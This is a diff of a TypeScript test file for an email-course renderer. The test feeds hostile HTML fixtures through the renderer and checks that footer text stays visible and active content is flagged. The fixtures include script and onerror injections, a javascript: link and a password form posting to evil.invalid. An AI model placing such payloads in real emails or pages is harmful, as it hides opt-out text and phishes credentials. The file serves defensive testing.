@@ -34,7 +34,8 @@ const HOSTILE: Record<string, string> = {
   'unclosed-textarea': '<textarea>',
   'unclosed-table-cell': '<table><tr><td style="display:none">',
   'unclosed-link-script-url': '<a href="javascript:document.body.remove()" style="display:none">',
-  'script-handlers-form-frame': '<script>document.querySelectorAll("p").forEach(p => p.remove())</script><img src="https://x.invalid/a.png" onerror="this.parentNode.remove()"><form action="https://evil.invalid"><input name="pw"><button>Go</button></form><iframe src="data:text/html,hi"></iframe>',
+  'script-handlers-form-frame':
+    '<script>document.querySelectorAll("p").forEach(p => p.remove())</script><img src="https://x.invalid/a.png" onerror="this.parentNode.remove()"><form action="https://evil.invalid"><input name="pw"><button>Go</button></form><iframe src="data:text/html,hi"></iframe>',
   'unclosed-xmp-noscript': '<noscript><xmp>',
   'mjml-break-out': '</div></mj-text></mj-column></mj-section><mj-raw><div style="display:none"></mj-raw>',
   'clip-and-transform': '<div style="clip-path:inset(50%);transform:scale(0);height:0;visibility:hidden">',
@@ -60,8 +61,15 @@ beforeAll(async () => {
   const files = Object.entries(HOSTILE).map(([name, html]) => {
     const series = `hostile-${name}`;
     const file = `series/${series}/01-${name}.md`;
-    writeFile(root, file, `---\nsubject: Hostile ${name}\npreheader: A lesson that tries to hide the footer.\ndelay: 0d\n---\n\nA normal first paragraph.\n\n${html}\n`);
-    writeFileSync(join(root, `series/${series}/series.yaml`), 'title: Hostile lessons\ndescription: It tries to hide the footer.\ntimezone: America/New_York\n');
+    writeFile(
+      root,
+      file,
+      `---\nsubject: Hostile ${name}\npreheader: A lesson that tries to hide the footer.\ndelay: 0d\n---\n\nA normal first paragraph.\n\n${html}\n`,
+    );
+    writeFileSync(
+      join(root, `series/${series}/series.yaml`),
+      'title: Hostile lessons\ndescription: It tries to hide the footer.\ntimezone: America/New_York\n',
+    );
     return { name, series, file };
   });
   [project, browser] = await Promise.all([loadProject(root), launchBrowser()]);
@@ -76,7 +84,14 @@ beforeAll(async () => {
     course.push({ name: `${engine} confirmation`, html: fill(built.built.confirm.message) });
     for (const slug of listBroadcastSlugs(root)) {
       const { parsed } = await loadBroadcast(project, slug);
-      const b = await renderChecked(project, { kind: 'broadcast', engine, subject: parsed!.subject, preheader: parsed!.preheader, body: parsed!.body, cta: resolveCta(parsed!.cta, project.resolveLink) });
+      const b = await renderChecked(project, {
+        kind: 'broadcast',
+        engine,
+        subject: parsed!.subject,
+        preheader: parsed!.preheader,
+        body: parsed!.body,
+        cta: resolveCta(parsed!.cta, project.resolveLink),
+      });
       course.push({ name: `${engine} broadcast ${slug}`, html: fill(b.message) });
     }
 
@@ -138,7 +153,8 @@ async function judge(html: string): Promise<{ seen: Seen[]; active: string[] }> 
         opacity *= Number(s.opacity);
         if (e !== el && (s.overflowX !== 'visible' || s.overflowY !== 'visible' || s.clipPath !== 'none')) {
           const r = e.getBoundingClientRect();
-          if (rect.left < r.left - 1 || rect.right > r.right + 1 || rect.top < r.top - 1 || rect.bottom > r.bottom + 1 || s.clipPath !== 'none') out.push(`${tag} is clipped by <${e.tagName.toLowerCase()}>`);
+          if (rect.left < r.left - 1 || rect.right > r.right + 1 || rect.top < r.top - 1 || rect.bottom > r.bottom + 1 || s.clipPath !== 'none')
+            out.push(`${tag} is clipped by <${e.tagName.toLowerCase()}>`);
         }
         if (s.transform !== 'none' && /matrix\(0, 0, 0, 0/.test(s.transform)) out.push(`${tag} is scaled to nothing`);
       }
@@ -157,14 +173,17 @@ async function judge(html: string): Promise<{ seen: Seen[]; active: string[] }> 
 
     const all = Array.from(document.body.querySelectorAll('*'));
     const seen = phrases.map((phrase) => {
-      const holders = all.filter((el) => collapse(el.textContent ?? '').includes(phrase) && !Array.from(el.children).some((c) => collapse(c.textContent ?? '').includes(phrase)));
+      const holders = all.filter(
+        (el) => collapse(el.textContent ?? '').includes(phrase) && !Array.from(el.children).some((c) => collapse(c.textContent ?? '').includes(phrase)),
+      );
       const el = holders.at(-1);
       if (!el) return { phrase, problems: ['not in the page'] };
       return { phrase, problems: [el, ...Array.from(el.querySelectorAll('*'))].filter((e) => collapse(e.textContent ?? '')).flatMap(problemsOf) };
     });
 
     const active: string[] = [];
-    for (const el of Array.from(document.querySelectorAll('script, iframe, frame, object, embed, form, input, button, textarea, select'))) active.push(`<${el.tagName.toLowerCase()}>`);
+    for (const el of Array.from(document.querySelectorAll('script, iframe, frame, object, embed, form, input, button, textarea, select')))
+      active.push(`<${el.tagName.toLowerCase()}>`);
     for (const el of Array.from(document.querySelectorAll('*'))) {
       for (const a of Array.from(el.attributes)) {
         if (/^on/i.test(a.name)) active.push(`${a.name}= on <${el.tagName.toLowerCase()}>`);
